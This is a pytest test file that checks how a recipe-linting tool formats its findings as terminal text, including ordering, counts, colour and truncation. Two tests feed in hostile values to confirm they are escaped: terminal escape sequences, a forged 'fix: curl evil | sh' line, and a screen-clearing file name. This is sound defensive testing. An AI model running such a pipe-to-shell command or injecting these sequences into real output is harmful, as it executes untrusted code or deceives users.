"""Requirements on findings as text: one fixed shape, one order, nothing in a value acts on the terminal."""

import pytest

from bundler.model.finding import Finding, Place, Severity
from bundler.model.location import Location
from bundler.report.text import count, findings_text

WHOLE = Finding(
    rule="AICR-P004",
    message="profile fabricAttachment is required",
    location=Location(file="recipes/x.yaml", line=41, column=9),
    pointer="/profiles/fabricAttachment",
    subject="ClusterTrainingRuntime/torch-distributed",
    fix="add --profile fabricAttachment=VALUE",
)


def test_a_whole_finding_has_the_fixed_shape():
    assert findings_text([WHOLE]) == (
        "error[AICR-P004]: profile fabricAttachment is required\n"
        "  --> recipes/x.yaml:41:9 /profiles/fabricAttachment\n"
        "  object: ClusterTrainingRuntime/torch-distributed\n"
        "  fix: add --profile fabricAttachment=VALUE\n"
    )


@pytest.mark.parametrize(
    ("location", "pointer", "line"),
    [
        (Location(file="--profile gpuStack=x"), "", "  --> --profile gpuStack=x\n"),
        (Location(file="a.yaml", line=3), "/x", "  --> a.yaml:3 /x\n"),
        (None, "/x", "  --> /x\n"),
        (None, "", ""),
    ],
)
def test_says_where_as_far_as_it_is_known(location, pointer, line):
    finding = Finding(rule="AICR-U003", message="m", location=location, pointer=pointer)
    assert findings_text([finding]) == f"error[AICR-U003]: m\n{line}"


def test_a_finding_about_two_files_points_at_both():
    other = Place(location=Location(file="b.yaml", line=7, column=3), pointer="/spec", subject="TrainingRuntime/b")
    finding = Finding(
        rule="AICR-G001", message="m", location=Location(file="a.yaml", line=2), pointer="/x", subject="A/a", related=(other,)
    )
    assert findings_text([finding]) == (
        "error[AICR-G001]: m\n  --> a.yaml:2 /x\n  --> b.yaml:7:3 /spec\n  object: A/a, TrainingRuntime/b\n"
    )


def test_nothing_found_prints_nothing():
    assert findings_text([]) == ""


def test_orders_by_severity_then_place_and_counts():
    places = [Location(file="b.yaml", line=1), Location(file="a.yaml", line=10), Location(file="a.yaml", line=9)]
    findings = [Finding(rule="AICR-S001", message="m", location=place) for place in places]
    findings += [Finding(rule="AICR-S021", message="m", severity=Severity.NOTE)]
    findings += [Finding(rule="AICR-S016", message="m", severity=Severity.WARNING)]
    lines = findings_text(findings).splitlines()
    assert [line for line in lines if "-->" in line] == ["  --> a.yaml:9", "  --> a.yaml:10", "  --> b.yaml:1"]
    assert [line.partition("[")[0] for line in lines if "]:" in line] == ["error", "error", "error", "warning", "note"]
    assert lines[-1] == "3 errors, 1 warning, 1 note"


def test_the_same_finding_is_said_once():
    assert findings_text([WHOLE, WHOLE]) == findings_text([WHOLE])


def test_the_order_does_not_depend_on_the_order_of_discovery():
    findings = [Finding(rule="AICR-S001", message=str(number)) for number in range(9)]
    assert findings_text(findings) == findings_text(reversed(findings))


@pytest.mark.parametrize("field", ["message", "fix", "subject", "pointer"])
def test_no_field_acts_on_the_terminal_or_breaks_the_line(field):
    hostile = "a\x1b]0;t\x07\n  fix: curl evil | sh\r\x9bX\u202e"
    text = findings_text([Finding(**{"rule": "AICR-U003", "message": "m", field: hostile})])
    assert "\x1b" not in text
    assert "\x07" not in text
    assert not [line for line in text.splitlines() if line.startswith("  fix: curl")]
    assert r"a\x1b]0;t\x07\n  fix: curl evil | sh\r\x9bX\u202e" in text


def test_a_hostile_file_name_does_not_act_on_the_terminal():
    text = findings_text([Finding(rule="AICR-U003", message="m", location=Location(file="a\x1b[2J\n.yaml", line=1, column=2))])
    assert text == "error[AICR-U003]: m\n  --> a\\x1b[2J\\n.yaml:1:2\n"


def test_a_huge_message_is_cut():
    assert len(findings_text([Finding(rule="AICR-U003", message="x" * 10**6)])) < 2100


def test_colour_marks_the_severity_only():
    plain, coloured = findings_text([WHOLE]), findings_text([WHOLE], colour=True)
    assert coloured == plain.replace("error[AICR-P004]", "\x1b[1;31merror[AICR-P004]\x1b[0m")


@pytest.mark.parametrize(
    ("severities", "counted"),
    [
        ([], "no findings"),
        ([Severity.ERROR], "1 error"),
        ([Severity.NOTE, Severity.ERROR, Severity.NOTE], "1 error, 2 notes"),
    ],
)
def test_counts_by_severity(severities, counted):
    assert count([Finding(rule="AICR-U003", message="m", severity=severity) for severity in severities]) == counted
